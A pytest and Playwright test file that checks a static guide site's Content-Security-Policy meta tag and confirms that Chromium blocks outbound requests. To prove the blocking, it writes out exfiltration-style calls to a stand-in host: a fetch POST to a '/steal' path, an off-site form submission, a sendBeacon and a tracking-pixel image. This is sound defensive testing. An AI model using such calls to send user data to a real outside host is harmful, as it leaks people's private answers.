"""The Content-Security-Policy: on every built page, enforced by Chromium, silent in normal use.

The guide promises that answers never leave the browser. The policy makes the browser
keep that promise: a page connects to its own origin only and submits no form, hosted
on 127.0.0.1 and opened from disk (file://) alike.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from generator.site.csp import CONTENT_SECURITY_POLICY
from tests.forms.helpers import export, form_url, open_form
from tests.site.sitehelpers import LANGUAGES, all_html_files, read
from tests.support.browser import OffHostGuard

# Keywords and data: only: no host, no wildcard, no http(s) or ws(s) scheme anywhere.
ALLOWED_SOURCES = {"'self'", "'none'", "'unsafe-inline'", "data:"}
REQUIRED = {
    "default-src": ["'self'"],
    "connect-src": ["'self'"],
    "form-action": ["'none'"],
    "object-src": ["'none'"],
    "base-uri": ["'self'"],
}
# Directives a <meta> policy cannot carry: Chromium ignores them with a console warning.
NOT_IN_META = {"frame-ancestors", "report-uri", "report-to", "sandbox"}
SEARCH_WORD = {"nl": "energie", "en": "energy"}
OFF_HOST = "https://example.org"
TIMEOUT = 5_000
# Installed before any page script runs: every violation, in any frame, goes to Python
# (the list survives navigation) and to window.__gwViolations (for wait_for_function).
WATCH_VIOLATIONS = """
window.__gwViolations = [];
window.addEventListener("securitypolicyviolation", (event) => {
  const violation = {
    directive: event.effectiveDirective,
    blocked: event.blockedURI,
    source: event.sourceFile,
    page: location.href,
  };
  window.__gwViolations.push(violation);
  if (typeof window.__gwReportViolation === "function") window.__gwReportViolation(violation);
}, true);
window.print = () => { window.__gwPrinted = (window.__gwPrinted || 0) + 1; };
"""


class _HeadParser(HTMLParser):
    """Records the CSP <meta> elements of a page and the tags that come before the first."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.policies: list[str] = []
        self.in_head: list[bool] = []
        self.before: list[str] = []
        self.head_open = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "head":
            self.head_open = True
        if tag == "meta" and values.get("http-equiv", "").lower() == "content-security-policy":
            self.policies.append(values.get("content", ""))
            self.in_head.append(self.head_open)
        elif not self.policies:
            self.before.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self.head_open = False


def _head(markup: str) -> _HeadParser:
    parser = _HeadParser()
    parser.feed(markup)
    parser.close()
    return parser


def directives(policy: str) -> dict[str, list[str]]:
    """A policy's directives by name, as the CSP specification's parser splits them."""
    parsed: dict[str, list[str]] = {}
    for part in policy.split(";"):
        tokens = part.split()
        if tokens:
            parsed.setdefault(tokens[0].lower(), tokens[1:])
    return parsed


def policy_problems(policy: str) -> list[str]:
    """What is wrong with a policy: a missing limit, a host allowed, a directive meta cannot use."""
    parsed = directives(policy)
    problems = [
        f"{name} is {parsed.get(name)}, not {sources}"
        for name, sources in REQUIRED.items()
        if parsed.get(name) != sources
    ]
    problems += [f"{name} in a <meta> policy" for name in NOT_IN_META & parsed.keys()]
    problems += [
        f"{name} allows {sorted(set(sources) - ALLOWED_SOURCES)}"
        for name, sources in parsed.items()
        if not set(sources) <= ALLOWED_SOURCES
    ]
    return problems


def test_the_policy_is_strict() -> None:
    assert policy_problems(CONTENT_SECURITY_POLICY) == []
    widened = CONTENT_SECURITY_POLICY.replace(
        "img-src 'self'", "img-src 'self' https://example.org"
    )
    assert widened != CONTENT_SECURITY_POLICY and policy_problems(widened)
    assert policy_problems("default-src 'self'; connect-src 'self' *; form-action 'none'")


def test_every_page_carries_the_policy_first_in_head(built_site: Path) -> None:
    pages = all_html_files(built_site)
    names = {path.relative_to(built_site).as_posix() for path in pages}
    expected = {"index.html", "en/404.html", "nl/404.html", "en/forms/employee-annual.html"}
    assert expected <= names, f"pages missing from the build: {expected - names}"
    problems = []
    for path in pages:
        relative = path.relative_to(built_site).as_posix()
        markup = read(path)
        head = _head(markup)
        if len(head.policies) != 1:
            problems.append(f"{relative}: {len(head.policies)} CSP <meta> elements")
            continue
        if not head.in_head[0]:
            problems.append(f"{relative}: the CSP <meta> is not in <head>")
        earlier = [tag for tag in head.before if tag not in ("html", "head", "meta")]
        if earlier:
            problems.append(f"{relative}: the CSP <meta> comes after {earlier}")
        problems += [f"{relative}: {problem}" for problem in policy_problems(head.policies[0])]
        if head.policies[0] != CONTENT_SECURITY_POLICY:
            problems.append(f"{relative}: not generator/site/csp.py's policy")
        charset = markup.encode("utf-8").find(b"<meta charset")
        if not 0 <= charset < 1024 - len(b'<meta charset="utf-8">'):
            problems.append(f"{relative}: <meta charset> is not in the first 1024 bytes")
    assert not problems, "\n".join(problems)


class Violations:
    """CSP violations of one page, seen by a listener in the page and in the console."""

    def __init__(self) -> None:
        self.events: list[dict[str, str]] = []
        self.console: list[str] = []

    def install(self, page: Any) -> None:
        page.expose_function("__gwReportViolation", self._event)
        page.add_init_script(WATCH_VIOLATIONS)
        page.on("console", self._console)

    def _event(self, violation: dict[str, str]) -> None:
        self.events.append(violation)

    def _console(self, message: Any) -> None:
        # Violations in frames the listener may not reach (the search worker's iframe
        # from file://) still reach the console.
        if "Content Security Policy" in message.text:
            self.console.append(message.text)

    def all(self) -> list[object]:
        return [*self.events, *self.console]


@pytest.fixture
def violations(page: Any) -> Violations:
    """Every CSP violation on the page fixture, from before its first script on."""
    watcher = Violations()
    watcher.install(page)
    return watcher


def _wait_for_violation(page: Any, directive: str) -> dict[str, str]:
    """The first violation of ``directive`` since the last call; waits for it."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

    try:
        handle = page.wait_for_function(
            """(directive) => {
              const found = window.__gwViolations.find((item) => item.directive === directive);
              window.__gwViolations = window.__gwViolations.filter((item) => item !== found);
              return found || false;
            }""",
            arg=directive,
            timeout=TIMEOUT,
        )
    except PlaywrightTimeoutError:
        pytest.fail(f"no {directive} violation: the page's policy did not stop the request")
    violation: dict[str, str] = handle.json_value()
    return violation


@pytest.mark.browser
def test_the_browser_stops_answers_leaving(
    page: Any, origin: str, guard: OffHostGuard, violations: Violations
) -> None:
    url = form_url(origin)
    open_form(page, origin)
    page.evaluate("window.__gwMarker = 'still here'")

    outcome = page.evaluate(
        """(target) => fetch(target, { method: "POST", body: "x" })
          .then(() => "resolved", (error) => "rejected: " + error)""",
        f"{OFF_HOST}/steal",
    )
    assert outcome.startswith("rejected"), outcome
    assert _wait_for_violation(page, "connect-src")["blocked"].startswith(OFF_HOST)

    page.evaluate(
        """(target) => {
          const form = document.createElement("form");
          form.action = target;
          form.method = "post";
          form.innerHTML = '<input name="answer" value="x"><button>Send</button>';
          document.body.append(form);
          form.requestSubmit();
        }""",
        f"{OFF_HOST}/form",
    )
    assert _wait_for_violation(page, "form-action")["blocked"].startswith(OFF_HOST)
    assert page.url == url
    assert page.evaluate("window.__gwMarker") == "still here"

    page.evaluate("(target) => navigator.sendBeacon(target, 'x')", f"{OFF_HOST}/beacon")
    assert _wait_for_violation(page, "connect-src")["blocked"].startswith(OFF_HOST)

    loaded = page.evaluate(
        """(target) => new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve("loaded");
          image.onerror = () => resolve("blocked");
          image.src = target;
        })""",
        f"{OFF_HOST}/pixel.png",
    )
    assert loaded == "blocked"
    assert _wait_for_violation(page, "img-src")["blocked"].startswith(OFF_HOST)

    assert page.url == url
    assert guard.requests == [], f"requests reached the network: {guard.requests}"


def _search(page: Any, language: str) -> None:
    page.keyboard.press("/")
    page.keyboard.type(SEARCH_WORD[language])
    page.locator(".md-search-result__item").first.wait_for(timeout=15_000)


@pytest.mark.browser
@pytest.mark.parametrize("language", LANGUAGES)
def test_normal_use_breaks_no_rule(
    page: Any,
    origin: str,
    language: str,
    tmp_path: Path,
    guard: OffHostGuard,
    violations: Violations,
) -> None:
    other = next(lang for lang in LANGUAGES if lang != language)
    page.goto(f"{origin}/index.html")
    page.locator(f"a[hreflang='{language}']").click()
    page.wait_for_url(re.compile(rf"/{language}/index\.html$"))
    _search(page, language)
    page.keyboard.press("Enter")  # Material opens the first result; the form is not sent
    page.wait_for_url(re.compile(rf"/{language}/.*\?h="))

    page.goto(f"{origin}/{language}/themes/wellbeing.html")
    page.locator(".gw-language-switch__link").click()
    page.wait_for_url(re.compile(rf"/{other}/themes/wellbeing\.html$"))
    page.locator(".gw-language-switch__link").click()
    page.wait_for_url(re.compile(rf"/{language}/themes/wellbeing\.html$"))

    open_form(page, origin, language=language)
    page.fill("#gw-about--name", "Sam de Vries")
    page.keyboard.type(" Jr")
    assert "Sam de Vries Jr" in json.dumps(export(page, tmp_path))
    page.click("[data-gw-print]")
    page.wait_for_function("window.__gwPrinted === 1")
    page.pdf(format="A4")
    page.evaluate("document.activeElement.blur()")
    _search(page, language)

    assert violations.all() == [], "CSP violations in normal use"
    assert guard.requests == []
